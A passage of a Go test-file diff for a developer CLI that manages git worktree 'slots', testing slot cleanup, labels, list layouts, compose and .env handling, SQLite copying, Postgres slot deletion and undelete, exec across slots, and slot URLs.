+		// tmux session and clean worktree start checked; unmerged worktree
+		// and orphan container unchecked
+		items := cleanItems([]string{"app-1"}, []string{"/w/app-1"}, []string{"/w/app-2"},
+			[]DockerProcess{{Name: "old-db-1"}}, nil)
+		err := toggleCleanItems(items, tt.input)
+		if (err != nil) != tt.wantErr {
+			t.Errorf("toggleCleanItems(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
+			continue
+		}
+		var got []bool
+		for _, item := range items {
+			got = append(got, item.Selected)
+		}
+		if tt.want != nil && !slices.Equal(got, tt.want) {
+			t.Errorf("toggleCleanItems(%q) = %v, want %v", tt.input, got, tt.want)
+		}
+	}
+}
+
+func TestCleanReportSort(t *testing.T) {
+	r := CleanReport{Safe: []CleanFinding{
+		{Kind: "worktree", Name: "app-2"},
+		{Kind: "tmux", Name: "app-9"},
+		{Kind: "worktree", Name: "app-1"},
+	}}
+	r.sort()
+	var got []string
+	for _, f := range r.Safe {
+		got = append(got, f.Kind+":"+f.Name)
+	}
+	if want := []string{"tmux:app-9", "worktree:app-1", "worktree:app-2"}; !slices.Equal(got, want) {
+		t.Errorf("Safe = %v, want %v", got, want)
+	}
+	data, _ := json.Marshal(r)
+	if !strings.Contains(string(data), `"blocked":[]`) {
+		t.Errorf("empty lists should marshal as [], got %s", data)
+	}
+}
+
+func TestSlotAge(t *testing.T) {
+	now := time.Date(2026, 3, 10, 12, 0, 0, 0, time.UTC)
+	fallback := now.Add(-72 * time.Hour)
+	tests := []struct {
+		createdAt string
+		want      time.Duration
+	}{
+		{"2026-03-10T10:00:00Z", 2 * time.Hour},
+		{"", 72 * time.Hour},
+		{"yesterday", 72 * time.Hour},
+	}
+	for _, tt := range tests {
+		if got := slotAge(tt.createdAt, fallback, now); got != tt.want {
+			t.Errorf("slotAge(%q) = %v, want %v", tt.createdAt, got, tt.want)
+		}
+	}
+}
+
+func TestLabels(t *testing.T) {
+	labels := addLabels([]string{"spike"}, []string{"backend", "spike", "api"})
+	if fmt.Sprint(labels) != "[api backend spike]" {
+		t.Errorf("addLabels = %v", labels)
+	}
+	if got := removeLabels(labels, []string{"backend", "missing"}); fmt.Sprint(got) != "[api spike]" {
+		t.Errorf("removeLabels = %v", got)
+	}
+	if got := removeLabels(labels, labels); got != nil {
+		t.Errorf("removeLabels(all) = %v, want nil", got)
+	}
+
+	reg := &Registry{
+		Projects: map[string]ProjectConfig{"app": {Path: "/src/app"}},
+		Slots: map[string]SlotConfig{
+			"app-1": {Project: "app", Labels: []string{"spike"}},
+			"app-2": {Project: "app"},
+		},
+	}
+	if scoped := scopeToLabel(reg, "spike"); len(scoped.Slots) != 1 || scoped.SlotPath("app-1") == "" {
+		t.Errorf("scopeToLabel(spike) = %+v", scoped)
+	}
+	if scopeToLabel(reg, "") != reg {
+		t.Error("scopeToLabel(\"\") should return the registry itself")
+	}
+}
+
+func TestSlotSummary(t *testing.T) {
+	tests := []struct {
+		slot SlotConfig
+		want string
+	}{
+		{SlotConfig{}, ""},
+		{SlotConfig{Description: "Fix checkout"}, "Fix checkout"},
+		{SlotConfig{Description: "Fix checkout", Ticket: "SHOP-12", Assignee: "ana"}, "Fix checkout [SHOP-12] @ana"},
+		{SlotConfig{Assignee: "ana"}, "@ana"},
+		{SlotConfig{Ticket: "SHOP-12", Labels: []string{"backend", "spike"}}, "[SHOP-12] #backend #spike"},
+	}
+	for _, tt := range tests {
+		if got := slotSummary(tt.slot); got != tt.want {
+			t.Errorf("slotSummary(%+v) = %q, want %q", tt.slot, got, tt.want)
+		}
+	}
+}
+
+func TestListLayout(t *testing.T) {
+	tests := []struct {
+		output, columns string
+		want            string
+		wantErr         bool
+	}{
+		{"", "", "[name branch agent idle summary]", false},
+		{"wide", "", "[name project branch agent idle locked labels url pr summary]", false},
+		{"table", "name,labels", "[name labels]", false},
+		{"json", "", "[]", false},
+		{"names", "name", "", true},
+		{"yaml", "", "", true},
+		{"", "name,color", "", true},
+	}
+	for _, tt := range tests {
+		got, err := listLayout(tt.output, tt.columns)
+		if (err != nil) != tt.wantErr {
+			t.Errorf("listLayout(%q, %q) error = %v", tt.output, tt.columns, err)
+		} else if !tt.wantErr && fmt.Sprint(got) != tt.want {
+			t.Errorf("listLayout(%q, %q) = %v, want %s", tt.output, tt.columns, got, tt.want)
+		}
+	}
+}
+
+func TestRenderListTable(t *testing.T) {
+	rows := []ListRow{
+		{Name: "app-1", Branch: "slot-1", Locked: true, Labels: []string{"spike", "api"}},
+		{Name: "app-2", Branch: "fix-login", Agent: "claude 5m"},
+	}
+	got := renderListTable(rows, []string{"name", "locked", "labels"})
+	want := "SLOT                     LOCK   LABELS\n" +
+		"app-1                    yes    spike,api\n" +
+		"app-2                    -      -\n"
+	if got != want {
+		t.Errorf("renderListTable =\n%s\nwant\n%s", got, want)
+	}
+}
+
+func TestComposeFileArgs(t *testing.T) {
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, "docker-compose.yml"), []byte("services: {}\n"), 0644)
+	if got := strings.Join(composeFileArgs(dir), " "); got != "-f docker-compose.yml" {
+		t.Errorf("composeFileArgs = %q", got)
+	}
+
+	// Passing -f stops compose from loading its override on its own
+	os.WriteFile(filepath.Join(dir, "docker-compose.override.yml"), []byte("services: {}\n"), 0644)
+	if got := strings.Join(composeFileArgs(dir), " "); got != "-f docker-compose.yml -f docker-compose.override.yml" {
+		t.Errorf("composeFileArgs with override = %q", got)
+	}
+	os.WriteFile(filepath.Join(dir, slotComposeOverrideName), []byte("services: {}\n"), 0644)
+	if got := strings.Join(composeFileArgs(dir), " "); got != "-f docker-compose.yml -f docker-compose.override.yml -f "+slotComposeOverrideName {
+		t.Errorf("composeFileArgs with slot override = %q", got)
+	}
+}
+
+func TestParseTrackedFileMode(t *testing.T) {
+	tests := []struct {
+		args     []string
+		mode     string
+		wantRest []string
+	}{
+		{[]string{"3"}, "override", []string{"3"}},
+		{[]string{"--tracked=allow", "3"}, "allow", []string{"3"}},
+		{[]string{"--tracked", "skip-worktree", "3"}, "skip-worktree", []string{"3"}},
+		{[]string{"auth", "--tracked", "allow"}, "allow", []string{"auth"}},
+	}
+	for _, tt := range tests {
+		mode, rest := parseTrackedFileMode(tt.args)
+		if mode != tt.mode || !slices.Equal(rest, tt.wantRest) {
+			t.Errorf("parseTrackedFileMode(%q) = %q, %q; want %q, %q", tt.args, mode, rest, tt.mode, tt.wantRest)
+		}
+	}
+}
+
+func TestReplaceEnvOverrideBlock(t *testing.T) {
+	block := envOverrideBegin + "\nPORT=3001\n" + envOverrideEnd + "\n"
+	tests := []struct {
+		name    string
+		content string
+		want    string
+	}{
+		{"empty file", "", block},
+		{"appends after user lines", "DEBUG=1", "DEBUG=1\n" + block},
+		{
+			"replaces an earlier block in place",
+			"DEBUG=1\n" + envOverrideBegin + "\nPORT=3002\n" + envOverrideEnd + "\nLOG=info\n",
+			"DEBUG=1\n" + block + "LOG=info\n",
+		},
+		{"rerun is a no-op", "DEBUG=1\n" + block, "DEBUG=1\n" + block},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := replaceEnvOverrideBlock(tt.content, []string{"PORT=3001"}); got != tt.want {
+				t.Errorf("replaceEnvOverrideBlock() =\n%q\nwant\n%q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDeleteTargets(t *testing.T) {
+	reg := &Registry{
+		Projects: map[string]ProjectConfig{"app": {Path: "/src/app"}, "api": {Path: "/src/api"}},
+		Slots: map[string]SlotConfig{
+			"app-1":    {Project: "app", Number: 1},
+			"app-2":    {Project: "app", Number: 2},
+			"app-auth": {Project: "app"},
+			"api-1":    {Project: "api", Number: 1},
+		},
+	}
+	merged := func(name string) bool { return name == "app-2" || name == "app-auth" }
+	tests := []struct {
+		name      string
+		ids       []string
+		all       bool
+		allMerged bool
+		want      []string
+	}{
+		{"explicit ids kept in order", []string{"3", "1"}, false, false, []string{"3", "1"}},
+		{"all slots of the project", nil, true, false, []string{"auth", "1", "2"}},
+		{"only merged slots", nil, false, true, []string{"auth", "2"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := deleteTargets(reg, "app", tt.ids, tt.all, tt.allMerged, merged)
+			if !slices.Equal(got, tt.want) {
+				t.Errorf("deleteTargets() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDeleteSharedPostgresSlot(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	root := t.TempDir()
+	oldRegistry, oldHosts, oldDrop := registryPath, hostsFilePath, dropSharedDBs
+	defer func() { registryPath, hostsFilePath, dropSharedDBs = oldRegistry, oldHosts, oldDrop }()
+	registryPath = filepath.Join(root, "config", "registry.json")
+	hostsFilePath = filepath.Join(root, "hosts")
+	var dropped []string
+	dropSharedDBs = func(mainRepo, project, slotName string) { dropped = append(dropped, slotName) }
+
+	mainRepo := filepath.Join(root, "app")
+	slotPath := filepath.Join(root, "app-1")
+	os.MkdirAll(mainRepo, 0755)
+	os.WriteFile(filepath.Join(mainRepo, "app.txt"), []byte("app\n"), 0644)
+	git := func(args ...string) {
+		cmd := exec.Command("git", append([]string{"-C", mainRepo}, args...)...)
+		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	git("init", "-q")
+	git("add", "-A")
+	git("commit", "-qm", "init")
+	git("worktree", "add", "-q", "-b", "slot-1", slotPath)
+	slot := SlotConfig{Project: "app", Branch: "slot-1", Number: 1, SharedPostgres: true}
+	saveRegistry(&Registry{
+		Projects: map[string]ProjectConfig{"app": {Path: mainRepo}},
+		Slots:    map[string]SlotConfig{"app-1": slot},
+	})
+
+	if err := deleteSlot(mainRepo, "app", "1", DeleteOptions{Force: true}); err != nil {
+		t.Fatalf("delete: %v", err.Message)
+	}
+	if len(dropped) > 0 {
+		t.Fatalf("delete into the trash dropped %v", dropped)
+	}
+	cmdUndelete([]string{"app-1"})
+	if got := loadRegistry().Slots["app-1"]; !got.SharedPostgres || !fileExists(slotPath) {
+		t.Fatalf("undelete restored %+v (worktree there: %v)", got, fileExists(slotPath))
+	}
+	if len(dropped) > 0 {
+		t.Fatalf("undelete dropped %v", dropped)
+	}
+
+	if err := deleteSlot(mainRepo, "app", "1", DeleteOptions{Force: true, NoTrash: true}); err != nil {
+		t.Fatalf("delete --no-trash: %v", err.Message)
+	}
+	if !slices.Equal(dropped, []string{"app-1"}) {
+		t.Errorf("delete --no-trash dropped %v, want [app-1]", dropped)
+	}
+}
+
+func TestCollectSlotInfo(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	root := t.TempDir()
+	oldRegistry := registryPath
+	defer func() { registryPath = oldRegistry }()
+	registryPath = filepath.Join(root, "config", "registry.json")
+
+	mainRepo := filepath.Join(root, "app")
+	os.MkdirAll(mainRepo, 0755)
+	os.WriteFile(filepath.Join(mainRepo, "app.txt"), []byte("app\n"), 0644)
+	git := func(args ...string) {
+		cmd := exec.Command("git", append([]string{"-C", mainRepo}, args...)...)
+		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	git("init", "-q")
+	git("add", "-A")
+	git("commit", "-qm", "init")
+	git("worktree", "add", "-q", "-b", "slot-1", filepath.Join(root, "app-1"))
+	git("worktree", "add", "-q", "-b", "slot-3", filepath.Join(root, "app-3"))
+	git("worktree", "add", "-q", "-b", "stray", filepath.Join(root, "app-stray"))
+	os.WriteFile(filepath.Join(root, "app-1", "wip.txt"), []byte("wip\n"), 0644)
+
+	reg := &Registry{
+		Projects: map[string]ProjectConfig{"app": {Path: mainRepo}},
+		Slots: map[string]SlotConfig{
+			"app-1": {Project: "app", Branch: "slot-1", Number: 1},
+			"app-2": {Project: "app", Branch: "slot-2", Number: 2}, // worktree gone
+			"app-3": {Project: "app", Branch: "slot-3", Number: 3, Locked: true, LockNote: "demo"},
+		},
+	}
+	recordAudit(AuditEntry{Action: "new", Slot: "app-1"})
+	recordAudit(AuditEntry{Action: "new", Slot: "app-10"})
+	recordAudit(AuditEntry{Action: "db-sync", Slot: "app-1", Error: "exit status 1"})
+
+	tests := []struct {
+		slot       string
+		exists     bool
+		registered bool
+		locked     bool
+		branch     string
+		dirty      int
+		history    []string
+	}{
+		{"app-1", true, true, false, "slot-1", 1, []string{"new", "db-sync"}},
+		{"app-stray", true, false, false, "stray", 0, nil},
+		{"app-2", false, true, false, "", 0, nil},
+		{"app-3", true, true, true, "slot-3", 0, nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.slot, func(t *testing.T) {
+			info := collectSlotInfo(reg, mainRepo, tt.slot)
+			if info.Exists != tt.exists || (info.Registry != nil) != tt.registered || info.Locked != tt.locked {
+				t.Errorf("exists=%v registered=%v locked=%v, want %v %v %v", info.Exists, info.Registry != nil, info.Locked, tt.exists, tt.registered, tt.locked)
+			}
+			if info.Branch != tt.branch || info.Dirty != tt.dirty {
+				t.Errorf("branch=%q dirty=%d, want %q %d", info.Branch, info.Dirty, tt.branch, tt.dirty)
+			}
+			var actions []string
+			for _, e := range info.History {
+				actions = append(actions, e.Action)
+			}
+			if !slices.Equal(actions, tt.history) {
+				t.Errorf("history = %v, want %v", actions, tt.history)
+			}
+			if tt.exists && len(info.Commits) == 0 {
+				t.Error("no recent commits")
+			}
+		})
+	}
+}
+
+func TestExportUncommitted(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	oldRegistry := registryPath
+	defer func() { registryPath = oldRegistry }()
+
+	tests := []struct {
+		name   string
+		change func(dir string)
+		want   []string // files the saved patch touches
+	}{
+		{"clean tree saves nothing", func(string) {}, nil},
+		{"modified tracked file", func(dir string) {
+			os.WriteFile(filepath.Join(dir, "app.txt"), []byte("changed\n"), 0644)
+		}, []string{"app.txt"}},
+		{"untracked file included", func(dir string) {
+			os.WriteFile(filepath.Join(dir, "notes.md"), []byte("todo\n"), 0644)
+		}, []string{"notes.md"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			root := t.TempDir()
+			registryPath = filepath.Join(root, "config", "registry.json")
+			dir := filepath.Join(root, "app-1")
+			os.MkdirAll(dir, 0755)
+			os.WriteFile(filepath.Join(dir, "app.txt"), []byte("original\n"), 0644)
+			git := func(args ...string) {
+				cmd := exec.Command("git", append([]string{"-C", dir}, args...)...)
+				cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
+				if out, err := cmd.CombinedOutput(); err != nil {
+					t.Fatalf("git %v: %v\n%s", args, err, out)
+				}
+			}
+			git("init", "-q")
+			git("add", "-A")
+			git("commit", "-qm", "init")
+			tt.change(dir)
+
+			path := exportUncommitted("app-1", dir)
+			if tt.want == nil {
+				if path != "" {
+					t.Errorf("exportUncommitted() = %q, want no patch", path)
+				}
+				return
+			}
+			if filepath.Dir(path) != filepath.Join(root, "config", "patches") {
+				t.Fatalf("exportUncommitted() = %q, want a file in config/patches", path)
+			}
+
+			// The patch re-applies onto a clean checkout of the same commit
+			git("stash", "-uq")
+			git("apply", "--binary", path)
+			out, _ := exec.Command("git", "-C", dir, "status", "--porcelain").Output()
+			var got []string
+			for _, line := range strings.Split(strings.TrimSpace(string(out)), "\n") {
+				got = append(got, strings.TrimSpace(line[2:]))
+			}
+			if !slices.Equal(got, tt.want) {
+				t.Errorf("re-applied patch changed %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestComposeProjectName(t *testing.T) {
+	tests := []struct {
+		name  string
+		dir   string
+		files map[string]string
+		want  string
+	}{
+		{"directory name default", "app-1", nil, "app-1"},
+		{"lowercased, invalid characters dropped", "My.App 2", nil, "myapp2"},
+		{"from .env", "app-1", map[string]string{".env": "COMPOSE_PROJECT_NAME=custom\n"}, "custom"},
+		{"quoted value", "app-1", map[string]string{".env": "COMPOSE_PROJECT_NAME=\"quoted\"\n"}, "quoted"},
+		{".env.local wins over .env", "app-1", map[string]string{
+			".env":       "COMPOSE_PROJECT_NAME=base\n",
+			".env.local": "COMPOSE_PROJECT_NAME=local\n",
+		}, "local"},
+		{"unset in env files", "app-1", map[string]string{".env": "PORT=3000\n"}, "app-1"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := filepath.Join(t.TempDir(), tt.dir)
+			os.MkdirAll(dir, 0755)
+			for name, content := range tt.files {
+				os.WriteFile(filepath.Join(dir, name), []byte(content), 0644)
+			}
+			if got := composeProjectName(dir); got != tt.want {
+				t.Errorf("composeProjectName(%q) = %q, want %q", tt.dir, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCopySQLiteFiles(t *testing.T) {
+	// No sqlite3 on PATH: the WAL can't be checkpointed and is copied alongside
+	t.Setenv("PATH", t.TempDir())
+	tests := []struct {
+		name  string
+		main  map[string]string // files in main
+		slot  map[string]string // files already in the slot
+		files []string
+		wantN int
+		want  map[string]string // slot files afterwards ("" = must not exist)
+	}{
+		{
+			"database copied into a new directory",
+			map[string]string{"data/app.db": "db"},
+			nil,
+			[]string{"data/app.db"},
+			1,
+			map[string]string{"data/app.db": "db", "data/app.db-wal": ""},
+		},
+		{
+			"wal copied when it can't be checkpointed",
+			map[string]string{"app.db": "db", "app.db-wal": "wal"},
+			nil,
+			[]string{"app.db"},
+			1,
+			map[string]string{"app.db": "db", "app.db-wal": "wal"},
+		},
+		{
+			"stale slot wal and shm removed",
+			map[string]string{"app.db": "new"},
+			map[string]string{"app.db": "old", "app.db-wal": "old", "app.db-shm": "old"},
+			[]string{"app.db"},
+			1,
+			map[string]string{"app.db": "new", "app.db-wal": "", "app.db-shm": ""},
+		},
+		{
+			"missing in main skipped",
+			nil,
+			nil,
+			[]string{"missing.db"},
+			0,
+			map[string]string{"missing.db": ""},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			mainRepo, slotPath := t.TempDir(), t.TempDir()
+			for dir, files := range map[string]map[string]string{mainRepo: tt.main, slotPath: tt.slot} {
+				for rel, content := range files {
+					os.MkdirAll(filepath.Dir(filepath.Join(dir, rel)), 0755)
+					os.WriteFile(filepath.Join(dir, rel), []byte(content), 0644)
+				}
+			}
+			if n := copySQLiteFiles(mainRepo, slotPath, tt.files); n != tt.wantN {
+				t.Errorf("copySQLiteFiles() = %d, want %d", n, tt.wantN)
+			}
+			for rel, want := range tt.want {
+				got, err := os.ReadFile(filepath.Join(slotPath, rel))
+				if want == "" && err == nil {
+					t.Errorf("%s exists in the slot, want it absent", rel)
+				} else if want != "" && string(got) != want {
+					t.Errorf("%s = %q, want %q", rel, got, want)
+				}
+			}
+		})
+	}
+}
+
+func TestReverseSyncConfirmed(t *testing.T) {
+	tests := []struct {
+		target, confirm string
+		yes, want       bool
+	}{
+		{"main", "", false, false},
+		{"main", "", true, false}, // --yes never overwrites main
+		{"main", "main", false, true},
+		{"app-3", "", true, true},
+		{"app-3", "app-3", false, true},
+		{"app-3", "", false, false},
+	}
+	for _, tt := range tests {
+		if got := reverseSyncConfirmed(tt.target, tt.confirm, tt.yes); got != tt.want {
+			t.Errorf("reverseSyncConfirmed(%q, %q, %v) = %v, want %v", tt.target, tt.confirm, tt.yes, got, tt.want)
+		}
+	}
+}
+
+func TestReverseSyncTarget(t *testing.T) {
+	mainRepo := filepath.Join("/src", "app")
+	tests := []struct {
+		name     string
+		target   string
+		wantName string
+		wantPath string
+	}{
+		{"main", "main", "main", mainRepo},
+		{"slot number", "3", "app-3", filepath.Join("/src", "app-3")},
+		{"slot name", "auth", "app-auth", filepath.Join("/src", "app-auth")},
+		{"full slot name", "app-auth", "app-auth", filepath.Join("/src", "app-auth")},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			name, path := reverseSyncTarget(mainRepo, "app", tt.target)
+			if name != tt.wantName || path != tt.wantPath {
+				t.Errorf("reverseSyncTarget(%q) = %q, %q, want %q, %q", tt.target, name, path, tt.wantName, tt.wantPath)
+			}
+		})
+	}
+}
+
+func TestTmuxSessionName(t *testing.T) {
+	tests := []struct {
+		slot string
+		want string
+	}{
+		{"app-1", "app-1"},
+		{"app-v1.2", "app-v1-2"},
+		{"app-feat:x", "app-feat-x"},
+	}
+	for _, tt := range tests {
+		if got := tmuxSessionName(tt.slot); got != tt.want {
+			t.Errorf("tmuxSessionName(%q) = %q, want %q", tt.slot, got, tt.want)
+		}
+	}
+}
+
+func TestDetectDevCommand(t *testing.T) {
+	tests := []struct {
+		name  string
+		files map[string]string
+		want  string
+	}{
+		{"no package.json", nil, ""},
+		{"no dev script", map[string]string{"package.json": `{"scripts": {"build": "tsc"}}`}, ""},
+		{"invalid json", map[string]string{"package.json": `{`}, ""},
+		{"npm", map[string]string{"package.json": `{"scripts": {"dev": "vite"}}`}, "npm run dev"},
+		{"pnpm lockfile", map[string]string{
+			"package.json":   `{"scripts": {"dev": "vite"}}`,
+			"pnpm-lock.yaml": "",
+		}, "pnpm dev"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			for name, content := range tt.files {
+				os.WriteFile(filepath.Join(dir, name), []byte(content), 0644)
+			}
+			if got := detectDevCommand(dir); got != tt.want {
+				t.Errorf("detectDevCommand() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSplitExecArgs(t *testing.T) {
+	tests := []struct {
+		name        string
+		args        []string
+		wantFlags   []string
+		wantCommand []string
+	}{
+		{"flags and command", []string{"--all", "-p", "--", "git", "status"}, []string{"--all", "-p"}, []string{"git", "status"}},
+		{"command only", []string{"--", "make"}, []string{}, []string{"make"}},
+		{"later -- belongs to the command", []string{"--", "npm", "test", "--", "--watch"}, []string{}, []string{"npm", "test", "--", "--watch"}},
+		{"no separator", []string{"--all", "git"}, []string{"--all", "git"}, nil},
+		{"nothing after separator", []string{"--all", "--"}, []string{"--all"}, []string{}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			flags, command := splitExecArgs(tt.args)
+			if !slices.Equal(flags, tt.wantFlags) || !slices.Equal(command, tt.wantCommand) {
+				t.Errorf("splitExecArgs() = %q, %q, want %q, %q", flags, command, tt.wantFlags, tt.wantCommand)
+			}
+		})
+	}
+}
+
+func TestExecSlots(t *testing.T) {
+	reg := &Registry{Slots: map[string]SlotConfig{
+		"app-2":   {Project: "app"},
+		"app-1":   {Project: "app"},
+		"api-1":   {Project: "api"},
+		"app-web": {Project: "app"},
+	}}
+	tests := []struct {
+		name    string
+		project string
+		all     bool
+		want    []string
+	}{
+		{"one project, sorted", "app", false, []string{"app-1", "app-2", "app-web"}},
+		{"all projects", "", true, []string{"api-1", "app-1", "app-2", "app-web"}},
+		{"unknown project", "web", false, nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := execSlots(reg, tt.project, tt.all); !slices.Equal(got, tt.want) {
+				t.Errorf("execSlots() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestExecInSlot(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("uses sh")
+	}
+	dir := t.TempDir()
+	tests := []struct {
+		name     string
+		path     string
+		command  []string
+		wantCode int
+		wantOut  string
+	}{
+		{"success with slot env", dir, []string{"sh", "-c", "echo $SLOT_NAME"}, 0, "app-1"},
+		{"exit code kept", dir, []string{"sh", "-c", "echo boom; exit 3"}, 3, "boom"},
+		{"missing slot directory", filepath.Join(dir, "gone"), []string{"true"}, -1, "slot directory not found"},
+		{"command not found", dir, []string{"slot-cli-no-such-command"}, -1, "executable file not found"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := execInSlot("app-1", tt.path, tt.command)
+			if got.Slot != "app-1" || got.ExitCode != tt.wantCode || !strings.Contains(got.Output, tt.wantOut) {
+				t.Errorf("execInSlot() = %+v, want exit %d with output containing %q", got, tt.wantCode, tt.wantOut)
+			}
+		})
+	}
+}
+
+func TestSlotURL(t *testing.T) {
+	oldRegistry, oldHosts, oldDnsmasq := registryPath, hostsFilePath, dnsmasqConfPath
+	defer func() { registryPath, hostsFilePath, dnsmasqConfPath = oldRegistry, oldHosts, oldDnsmasq }()
+
+	tests := []struct {
+		name  string
+		files map[string]string
+		dns   bool
+		want  string
+	}{
+		{"no port", map[string]string{".env": "DEBUG=1\n"}, false, ""},
+		{"PORT from .env", map[string]string{".env": "PORT=3001\n"}, false, "http://localhost:3001"},
+		{".env.local wins over .env", map[string]string{".env": "PORT=3000\n", ".env.local": "PORT=3007\n"}, false, "http://localhost:3007"},
+		{"monorepo web app", map[string]string{"apps/web/.env": "PORT=3002\n"}, false, "http://localhost:3002"},
+		{"slot domain with DNS set up", map[string]string{".env": "PORT=3001\n"}, true, "http://" + slotDomain("app-1") + ":3001"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			hostsFilePath = filepath.Join(dir, "hosts")
+			dnsmasqConfPath = filepath.Join(dir, "dnsmasq.conf")
+			registryPath = filepath.Join(dir, "registry.json")
+			if tt.dns {
+				setSlotDNS("dnsmasq", true)
+			}
+			slotPath := filepath.Join(dir, "app-1")
+			for rel, content := range tt.files {
+				os.MkdirAll(filepath.Dir(filepath.Join(slotPath, rel)), 0755)
+				os.WriteFile(filepath.Join(slotPath, rel), []byte(content), 0644)
+			}
+			if got := slotURL("app-1", slotPath); got != tt.want {
+				t.Errorf("slotURL() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSlotPortURL(t *testing.T) {
+	oldHosts, oldDnsmasq := hostsFilePath, dnsmasqConfPath
+	defer func() { hostsFilePath, dnsmasqConfPath = oldHosts, oldDnsmasq }()
+
+	tests := []struct {
+		name    string
+		varName string
+		files   map[string]string
+		want    string
+	}{
+		{"storybook in the root .env", "STORYBOOK_PORT", map[string]string{".env": "PORT=3001\nSTORYBOOK_PORT=6007\n"}, "http://localhost:6007"},
+		{"storybook in packages/ui", "STORYBOOK_PORT", map[string]string{"packages/ui/.env": "STORYBOOK_PORT=6008\n"}, "http://localhost:6008"},
+		{"quoted value", "STORYBOOK_PORT", map[string]string{"packages/ui/.env": "STORYBOOK_PORT=\"6009\"\n"}, "http://localhost:6009"},
+		{"variable missing", "STORYBOOK_PORT", map[string]string{".env": "PORT=3001\n"}, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			hostsFilePath = filepath.Join(dir, "hosts")
+			dnsmasqConfPath = filepath.Join(dir, "dnsmasq.conf")
+			slotPath := filepath.Join(dir, "app-1")
+			for rel, content := range tt.files {
+				os.MkdirAll(filepath.Dir(filepath.Join(slotPath, rel)), 0755)
+				os.WriteFile(filepath.Join(slotPath, rel), []byte(content), 0644)
+			}
+			if got := slotPortURL("app-1", slotPath, tt.varName); got != tt.want {
+				t.Errorf("slotPortURL(%s) = %q, want %q", tt.varName, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestClaudeSessionDir(t *testing.T) {
+	tests := []struct {
+		dir  string
+		want string
+	}{
+		{"/Users/me/src/app-1", "-Users-me-src-app-1"},
+		{`C:\Users\me\src\app-1`, "C--Users-me-src-app-1"},
+		{"/src/app.v2", "-src-app.v2"},
+	}
+	for _, tt := range tests {
+		want := filepath.Join(homeDir(), ".claude", "projects", tt.want)
+		if got := claudeSessionDir(tt.dir); got != want {
+			t.Errorf("claudeSessionDir(%q) = %q, want %q", tt.dir, got, want)
+		}
+	}
+}
+
+func TestShellCommand(t *testing.T) {
+	want := []string{"sh", "-c", "echo hi && exit 0"}
+	if runtime.GOOS == "windows" {
+		want = []string{"cmd", "/C", "echo hi && exit 0"}
+	}
+	if got := shellCommand("echo hi && exit 0").Args; !slices.Equal(got, want) {
+		t.Errorf("shellCommand().Args = %q, want %q", got, want)
+	}
+}
+
+func TestDefaultHostsFile(t *testing.T) {
+	t.Setenv("SystemRoot", `C:\Windows`)
+	want := "/etc/hosts"
+	if runtime.GOOS == "windows" {
+		want = filepath.Join(`C:\Windows`, "System32", "drivers", "etc", "hosts")
+	}
+	if got := defaultHostsFile(); got != want {
+		t.Errorf("defaultHostsFile() = %q, want %q", got, want)
+	}
+}
+
+func TestPrintLineDiff(t *testing.T) {
+	tests := []struct {
+		name string
+		old  string
+		new  string
+		want int
+	}{
+		{"identical", "PORT=3000\n", "PORT=3000\n", 0},
+		{"changed line", "PORT=3000\nDEBUG=1\n", "PORT=3001\nDEBUG=1\n", 2},
+		{"added line", "PORT=3000\n", "PORT=3000\nDB_PORT=5433\n", 1},
+		{"removed line", "PORT=3000\nDEBUG=1\n", "PORT=3000\n", 1},
+		{"blank lines ignored", "PORT=3000\n", "\nPORT=3000\n\n", 0},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := printLineDiff(tt.old, tt.new); got != tt.want {
+				t.Errorf("printLineDiff() = %d changes, want %d", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDryRunWritesLeaveFilesAlone(t *testing.T) {
+	dryRunWrites = true
